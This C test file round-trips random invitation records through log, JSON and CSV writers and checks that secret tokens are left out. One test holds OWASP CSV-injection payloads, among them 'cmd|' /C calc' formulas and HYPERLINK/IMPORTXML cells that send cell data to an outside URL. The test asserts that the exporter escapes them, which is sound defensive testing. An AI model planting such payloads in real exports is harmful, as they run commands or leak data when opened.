/* SPDX-License-Identifier: GPL-3.0-or-later */

/* Invitations drawn at random, written in each format with links and without, and read back by readers that share nothing
 * with what wrote them: json-glib for lines and details, Python's csv module for rows. */

#include "archive-test.h"

#include "archive/usher-log-chain.h"
#include "model/usher-json.h"

#include <gio/gio.h>
#include <string.h>

static const char *const facts[] = {
  "id",        "invitationType", "status",    "companyId", "connectionId", "allowedEmails",
  "expiresAt", "maxUses",        "useCount",  "createdAt",
};

static char *
dup_random_text (GRand *rand)
{
  g_autoptr (GString) text = g_string_new (NULL);
  g_autoptr (JsonNode) node = NULL;

  archive_test_append_random_text (rand, text);
  node = usher_json_parse (text->str, -1, NULL);
  return json_node_dup_string (node);
}

static void
set_random_text (JsonObject *object, const char *name, GRand *rand)
{
  g_autofree char *text = dup_random_text (rand);

  /* Empty and absent are the same to the model. */
  json_object_set_string_member (object, name, *text != '\0' ? text : "x");
}

static JsonArray *
make_events (GRand *rand)
{
  static const char *const kinds[] = { "CREATED", "EMAIL_SENT", "VIEWED", "EMAIL_VERIFIED", "USED", "ODD_KIND" };
  JsonArray *events = json_array_new ();

  for (gint32 n = g_rand_int_range (rand, 0, 5); n > 0; n--)
    {
      JsonObject *event = json_object_new ();
      g_autofree char *id = g_strdup_printf ("e%08x", g_rand_int (rand));
      /* An invitation has its events by time. */
      g_autofree char *time = g_strdup_printf ("2026-0%u-1%dT0%d:30:00%s", json_array_get_length (events) + 1,
                                               g_rand_int_range (rand, 0, 10), g_rand_int_range (rand, 0, 10),
                                               g_rand_boolean (rand) ? "Z" : ".123456Z");

      json_object_set_string_member (event, "id", id);
      json_object_set_string_member (event, "eventType", kinds[g_rand_int_range (rand, 0, G_N_ELEMENTS (kinds))]);
      json_object_set_string_member (event, "createdAt", time);
      if (g_rand_boolean (rand))
        set_random_text (event, "email", rand);
      if (g_rand_boolean (rand))
        {
          set_random_text (event, "note", rand);
          json_object_set_int_member (event, "attempt", g_rand_int_range (rand, -5, 5));
          json_object_set_boolean_member (event, "first", g_rand_boolean (rand));
        }
      json_array_add_object_element (events, event);
    }
  return events;
}

/* A detail as the API gives it. */
static JsonNode *
make_detail (GRand *rand, guint number)
{
  JsonNode *node = json_node_new (JSON_NODE_OBJECT);
  JsonObject *object = json_object_new ();
  JsonArray *allowed = json_array_new ();
  g_autofree char *id = g_strdup_printf ("i%u", number);
  g_autofree char *token = g_strdup_printf ("secret%u", number);
  g_autofree char *link = g_strdup_printf ("https://example.com/p/i/%s", token);

  json_object_set_string_member (object, "id", id);
  json_object_set_string_member (object, "token", token);
  json_object_set_string_member (object, "invitationType", g_rand_boolean (rand) ? "CREATE_CONNECTION" : "RECONNECT");
  json_object_set_string_member (object, "status", g_rand_boolean (rand) ? "ACTIVE" : "REVOKED");
  json_object_set_string_member (object, "invitationUrl", link);
  set_random_text (object, "companyId", rand);
  if (g_rand_boolean (rand))
    set_random_text (object, "connectionId", rand);
  else
    json_object_set_null_member (object, "connectionId");
  for (gint32 n = g_rand_int_range (rand, 1, 4); n > 0; n--)
    {
      g_autofree char *email = g_strdup_printf ("person%d@example.com", n);

      json_array_add_string_element (allowed, email);
    }
  json_object_set_array_member (object, "allowedEmails", allowed);
  if (g_rand_boolean (rand))
    json_object_set_string_member (object, "expiresAt", "2026-12-24T18:00:00Z");
  else
    json_object_set_null_member (object, "expiresAt");
  if (g_rand_boolean (rand))
    json_object_set_int_member (object, "maxUses", g_rand_int_range (rand, 1, 9));
  else
    json_object_set_null_member (object, "maxUses");
  json_object_set_int_member (object, "useCount", g_rand_int_range (rand, 0, 3));
  json_object_set_string_member (object, "createdAt", "2026-01-01T00:00:00Z");
  json_object_set_array_member (object, "events", make_events (rand));
  json_node_take_object (node, object);
  return node;
}

typedef struct
{
  GPtrArray *details;   /* (owned) (element-type JsonNode) */
  GPtrArray *companies; /* (owned) (element-type utf8) */
} Sample;

static void
sample_init (Sample *sample, guint32 seed)
{
  g_autoptr (GRand) rand = g_rand_new_with_seed (seed);
  guint n = (guint) g_rand_int_range (rand, 0, 40);

  sample->details = g_ptr_array_new_with_free_func ((GDestroyNotify) json_node_unref);
  sample->companies = g_ptr_array_new_with_free_func (g_free);
  for (guint i = 0; i < n; i++)
    {
      g_ptr_array_add (sample->details, make_detail (rand, i));
      g_ptr_array_add (sample->companies, dup_random_text (rand));
    }
}

static void
sample_clear (Sample *sample)
{
  g_ptr_array_unref (sample->details);
  g_ptr_array_unref (sample->companies);
}
G_DEFINE_AUTO_CLEANUP_CLEAR_FUNC (Sample, sample_clear)

static char *
write_sample (const Sample *sample, const char *name, gboolean with_links)
{
  g_autofree char *path = archive_test_path (name);
  g_autoptr (GError) error = NULL;
  g_autoptr (UsherLogWriter) writer =
      usher_log_writer_new (path, usher_log_format_from_path (path),
                            with_links ? USHER_LOG_FLAGS_WITH_LINKS : USHER_LOG_FLAGS_NONE, NULL, NULL, &error);

  g_assert_no_error (error);
  for (guint i = 0; i < sample->details->len; i++)
    {
      g_autoptr (UsherInvitation) invitation =
          usher_invitation_new_from_json (g_ptr_array_index (sample->details, i), &error);

      g_assert_no_error (error);
      g_assert_true (usher_log_writer_add_invitation (writer, invitation, g_ptr_array_index (sample->companies, i),
                                                      &error));
    }
  g_assert_true (usher_log_writer_finish (writer, &error));
  return g_steal_pointer (&path);
}

static char *
read_text (const char *path)
{
  g_autoptr (GFile) file = g_file_new_for_path (path);
  g_autoptr (GInputStream) stream = G_INPUT_STREAM (g_file_read (file, NULL, NULL));
  g_autoptr (GString) text = g_string_new (NULL);
  char buffer[8192];
  gssize n;

  if (g_str_has_suffix (path, ".gz"))
    {
      g_autoptr (GConverter) gzip = G_CONVERTER (g_zlib_decompressor_new (G_ZLIB_COMPRESSOR_FORMAT_GZIP));
      GInputStream *plain = g_converter_input_stream_new (stream, gzip);

      g_object_unref (stream);
      stream = plain;
    }
  while ((n = g_input_stream_read (stream, buffer, sizeof buffer, NULL, NULL)) > 0)
    g_string_append_len (text, buffer, n);
  g_assert_cmpint (n, ==, 0);
  return g_string_free (g_steal_pointer (&text), FALSE);
}

static void
assert_equal (JsonNode *found, JsonNode *wanted)
{
  if (found == NULL || !json_node_equal (found, wanted))
    {
      g_autofree char *a = found != NULL ? usher_json_to_string (found, FALSE) : g_strdup ("nothing");
      g_autofree char *b = usher_json_to_string (wanted, FALSE);

      g_error ("%s is not %s", a, b);
    }
}

/* One line of an Usher log: the event, the facts that are not null, the company. */
static void
check_line (const char *text, const Sample *sample, guint i, JsonNode *event, gboolean with_links)
{
  g_autoptr (JsonNode) line = usher_json_parse (text, -1, NULL);
  JsonObject *detail = json_node_get_object (g_ptr_array_index (sample->details, i));
  g_autoptr (JsonNode) wanted = json_node_new (JSON_NODE_OBJECT);
  JsonObject *invitation = json_object_new ();

  g_assert_nonnull (line);
  json_node_take_object (wanted, invitation);
  for (guint k = 0; k < G_N_ELEMENTS (facts); k++)
    if (!json_object_get_null_member (detail, facts[k]))
      json_object_set_member (invitation, facts[k], json_object_dup_member (detail, facts[k]));
  if (with_links)
    {
      json_object_set_member (invitation, "invitationUrl", json_object_dup_member (detail, "invitationUrl"));
      json_object_set_member (invitation, "token", json_object_dup_member (detail, "token"));
    }
  assert_equal (json_object_get_member (json_node_get_object (line), "invitation"), wanted);
  g_assert_cmpstr (usher_json_get_string (json_node_get_object (line), "company", NULL), ==,
                   g_ptr_array_index (sample->companies, i));
  if (event != NULL)
    assert_equal (json_object_get_member (json_node_get_object (line), "event"), event);
  else
    g_assert_false (json_object_has_member (json_node_get_object (line), "event"));
}

static void
check_usherlog (const Sample *sample, const char *name, gboolean with_links)
{
  g_autofree char *path = write_sample (sample, name, with_links);
  g_autofree char *text = read_text (path);
  g_auto (GStrv) lines = g_strsplit (text, "\n", -1);
  UsherVerification verification = archive_test_verify (path);
  guint at = 1;

  g_assert_cmpint (verification.verdict, ==, USHER_VERDICT_WHOLE);
  g_assert_cmpint (strstr (text, "secret") != NULL, ==, with_links && sample->details->len > 0);
  for (guint i = 0; i < sample->details->len; i++)
    {
      JsonArray *events = json_object_get_array_member (
          json_node_get_object (g_ptr_array_index (sample->details, i)), "events");
      guint n = json_array_get_length (events);

      for (guint k = 0; k < n; k++)
        check_line (lines[at++], sample, i, json_array_get_element (events, k), with_links);
      if (n == 0)
        check_line (lines[at++], sample, i, NULL, with_links);
    }
  g_assert_true (g_str_has_prefix (lines[at], "{\"end\":"));
  g_assert_cmpuint (g_strv_length (lines), ==, at + 2);
}

static void
check_json (const Sample *sample, gboolean with_links)
{
  g_autofree char *path = write_sample (sample, "round.json", with_links);
  g_autofree char *text = read_text (path);
  g_autoptr (JsonNode) node = usher_json_parse (text, -1, NULL);

  g_assert_nonnull (node);
  g_assert_cmpint (strstr (text, "secret") != NULL, ==, with_links && sample->details->len > 0);
  g_assert_cmpuint (json_array_get_length (json_node_get_array (node)), ==, sample->details->len);
  for (guint i = 0; i < sample->details->len; i++)
    {
      JsonObject *found = json_array_get_object_element (json_node_get_array (node), i);
      JsonObject *detail = json_node_get_object (g_ptr_array_index (sample->details, i));
      g_autoptr (GList) names = json_object_get_members (detail);

      for (GList *l = names; l != NULL; l = l->next)
        {
          gboolean is_link = strcmp (l->data, "token") == 0 || strcmp (l->data, "invitationUrl") == 0;

          if (is_link && !with_links)
            g_assert_false (json_object_has_member (found, l->data));
          else if (json_object_get_null_member (detail, l->data))
            g_assert_true (!json_object_has_member (found, l->data) || json_object_get_null_member (found, l->data));
          else
            assert_equal (json_object_get_member (found, l->data), json_object_get_member (detail, l->data));
        }
    }
}

/* What a row of CSV has for a line, by the words of the specification (section 5). */
static void
append_wanted_cell (GPtrArray *cells, JsonNode *node)
{
  static const char *const signs[] = { "=", "+", "-", "@", "\t", "\r", "\n", "'", "＝", "＋", "－", "＠" };
  g_autofree char *text = NULL;

  if (node == NULL || JSON_NODE_HOLDS_NULL (node))
    text = g_strdup ("");
  else if (json_node_get_value_type (node) == G_TYPE_STRING)
    text = json_node_dup_string (node);
  else
    text = g_strdup_printf ("%" G_GINT64_FORMAT, json_node_get_int (node));
  {
    g_autoptr (GRegex) obeyed = g_regex_new ("[\\x{00}-\\x{08}\\x{0B}\\x{0C}\\x{0E}-\\x{1F}\\x{7F}-\\x{9F}\\x{061C}\\x{200E}\\x{200F}"
                                             "\\x{2028}-\\x{202E}\\x{2066}-\\x{2069}\\x{FEFF}]",
                                             0, 0, NULL);
    char *written = g_regex_replace_literal (obeyed, text, -1, 0, "\xef\xbf\xbd", 0, NULL);

    g_free (text);
    text = written;
  }
  for (guint i = 0; i < G_N_ELEMENTS (signs); i++)
    if (g_str_has_prefix (text, signs[i]))
      {
        g_ptr_array_add (cells, g_strconcat ("'", text, NULL));
        return;
      }
  g_ptr_array_add (cells, g_steal_pointer (&text));
}

static void
check_csv_row (JsonArray *row, JsonObject *line)
{
  static const char *const names[] = { "id",     "invitationType", "status",   "createdAt", "expiresAt",
                                       "maxUses", "useCount",      "companyId", "connectionId" };
  JsonObject *event = usher_json_get_object (line, "event");
  JsonObject *invitation = usher_json_get_object (line, "invitation");
  JsonArray *allowed = usher_json_get_array (invitation, "allowedEmails");
  g_autoptr (GPtrArray) wanted = g_ptr_array_new_with_free_func (g_free);
  g_autoptr (JsonNode) recipients = json_node_new (JSON_NODE_VALUE);
  g_autoptr (GString) joined = g_string_new (NULL);

  append_wanted_cell (wanted, event != NULL ? json_object_get_member (event, "createdAt") : NULL);
  append_wanted_cell (wanted, event != NULL ? json_object_get_member (event, "eventType") : NULL);
  append_wanted_cell (wanted, event != NULL ? json_object_get_member (event, "email") : NULL);
  append_wanted_cell (wanted, json_object_get_member (line, "company"));
  for (guint i = 0; allowed != NULL && i < json_array_get_length (allowed); i++)
    g_string_append_printf (joined, "%s%s", i > 0 ? " " : "", json_array_get_string_element (allowed, i));
  json_node_set_string (recipients, joined->str);
  append_wanted_cell (wanted, recipients);
  for (guint i = 0; i < G_N_ELEMENTS (names); i++)
    append_wanted_cell (wanted, json_object_get_member (invitation, names[i]));
  append_wanted_cell (wanted, event != NULL ? json_object_get_member (event, "id") : NULL);
  g_assert_cmpuint (json_array_get_length (row), ==, wanted->len + 1);
  for (guint i = 0; i < wanted->len; i++)
    g_assert_cmpstr (json_array_get_string_element (row, i), ==, g_ptr_array_index (wanted, i));

  /* What has no column of its own, as JSON. */
  {
    const char *text = json_array_get_string_element (row, wanted->len);
    g_autoptr (JsonNode) details = *text != '\0' ? usher_json_parse (text, -1, NULL) : NULL;
    g_autoptr (GList) members = event != NULL ? json_object_get_members (event) : NULL;
    guint n = 0;

    for (GList *l = members; l != NULL; l = l->next)
      if (strcmp (l->data, "id") != 0 && strcmp (l->data, "eventType") != 0 && strcmp (l->data, "email") != 0
          && strcmp (l->data, "createdAt") != 0)
        {
          g_assert_nonnull (details);
          assert_equal (json_object_get_member (json_node_get_object (details), l->data),
                        json_object_get_member (event, l->data));
          n++;
        }
    g_assert_cmpuint (n, ==, details != NULL ? json_object_get_size (json_node_get_object (details)) : 0);
  }
}

/* (transfer full) (nullable) What Python's csv module reads; NULL: there is no Python. */
static JsonNode *
read_csv_elsewhere (const char *path)
{
  static const char script[] = "import csv, json, sys\n"
                               "with open(sys.argv[1], newline='', encoding='utf-8') as file:\n"
                               "    print(json.dumps(list(csv.reader(file, strict=True))))\n";
  g_autofree char *python = g_find_program_in_path ("python3");
  const char *argv[] = { python, "-c", script, path, NULL };
  g_autofree char *output = NULL;
  g_autofree char *errors = NULL;
  g_autoptr (GError) error = NULL;
  JsonNode *node;

  if (python == NULL)
    return NULL;
  g_spawn_sync (NULL, (char **) argv, NULL, G_SPAWN_DEFAULT, NULL, NULL, &output, &errors, NULL, &error);
  g_assert_no_error (error);
  g_assert_cmpstr (errors, ==, "");
  node = usher_json_parse (output, -1, &error);
  g_assert_no_error (error);
  return node;
}

static void
check_csv (const Sample *sample, gboolean with_links)
{
  g_autofree char *log_path = write_sample (sample, "csv.usherlog", FALSE);
  g_autofree char *log = read_text (log_path);
  g_auto (GStrv) lines = g_strsplit (log, "\n", -1);
  g_autofree char *path = write_sample (sample, "round.csv", with_links);
  g_autofree char *text = read_text (path);
  g_autoptr (JsonNode) rows = read_csv_elsewhere (path);

  /* A spreadsheet has no place for secrets, whatever was asked for. */
  g_assert_null (strstr (text, "secret"));
  if (rows == NULL)
    return;
  g_assert_cmpuint (json_array_get_length (json_node_get_array (rows)), ==, g_strv_length (lines) - 2);
  for (guint i = 1; i < json_array_get_length (json_node_get_array (rows)); i++)
    {
      g_autoptr (JsonNode) line = usher_json_parse (lines[i], -1, NULL);

      check_csv_row (json_array_get_array_element (json_node_get_array (rows), i), json_node_get_object (line));
    }
}

static void
test_invitations (void)
{
  for (guint32 seed = 1; seed <= usher_test_rounds (5, 300); seed++)
    {
      g_auto (Sample) sample = { NULL };

      g_test_message ("seed %u", seed);
      sample_init (&sample, seed);
      for (guint links = 0; links < 2; links++)
        {
          check_usherlog (&sample, "round.usherlog", (gboolean) links);
          check_usherlog (&sample, "round.usherlog.gz", (gboolean) links);
          check_json (&sample, (gboolean) links);
          check_csv (&sample, (gboolean) links);
        }
    }
}

/* OWASP's "CSV Injection" in every cell that a person or a company can fill. */
static void
test_formulas_elsewhere (void)
{
  static const char *const cells[] = {
    "=1+2", "=1+2\";=1+2", "=1+2'\" ;,=1+2", "+1", "-1", "@SUM(1+1)*cmd|' /C calc'!A0", "\tx", "\rx", "\nx", "\r\n=1",
    "＝1", "＋1", "－1", "＠x", "=HYPERLINK(\"https://example.com?a=\"&A1,\"Error\")", "'=1", "''", "=cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!D2", "=IMPORTXML(CONCAT(\"https://example.com/\",A1),\"//a\")", "a=b", "a,b", "a;b", "\"", "a\nb",
  };
  g_autoptr (GPtrArray) lines = g_ptr_array_new_with_free_func (g_free);
  g_autofree char *path = archive_test_path ("owasp.csv");
  g_autoptr (JsonNode) rows = NULL;
  guint n_formulas = 0;

  for (guint i = 0; i < G_N_ELEMENTS (cells); i++)
    {
      g_autoptr (GString) cell = g_string_new (NULL);

      usher_json_append_string (cell, cells[i], -1);
      g_ptr_array_add (lines, g_strdup_printf ("{\"event\":{\"id\":%s,\"eventType\":%s,\"email\":%s,\"createdAt\":%s,\"n\":%s},"
                                               "\"invitation\":{\"id\":%s,\"invitationType\":%s,\"status\":%s,\"companyId\":%s,"
                                               "\"connectionId\":%s,\"allowedEmails\":[%s],\"expiresAt\":%s,\"createdAt\":%s},"
                                               "\"company\":%s}",
                                               cell->str, cell->str, cell->str, cell->str, cell->str, cell->str, cell->str,
                                               cell->str, cell->str, cell->str, cell->str, cell->str, cell->str, cell->str));
    }
  archive_test_write_lines (path, USHER_LOG_FORMAT_CSV, lines);
  rows = read_csv_elsewhere (path);
  if (rows == NULL)
    {
      g_test_skip ("no python3");
      return;
    }
  g_assert_cmpuint (json_array_get_length (json_node_get_array (rows)), ==, lines->len + 1);
  for (guint i = 0; i < lines->len; i++)
    {
      g_autoptr (JsonNode) line = usher_json_parse (g_ptr_array_index (lines, i), -1, NULL);
      JsonArray *row = json_array_get_array_element (json_node_get_array (rows), i + 1);

      check_csv_row (row, json_node_get_object (line));
      n_formulas += json_array_get_string_element (row, 3)[0] == '\'';
    }
  g_assert_cmpuint (n_formulas, ==, lines->len - 5);
}

int
main (int argc, char **argv)
{
  int status;

  g_test_init (&argc, &argv, NULL);
  archive_test_init ();
  g_test_add_func ("/archive/round-trip/invitations", test_invitations);
  g_test_add_func ("/archive/round-trip/formulas-elsewhere", test_formulas_elsewhere);
  status = g_test_run ();
  archive_test_clean ();
  return status;
}
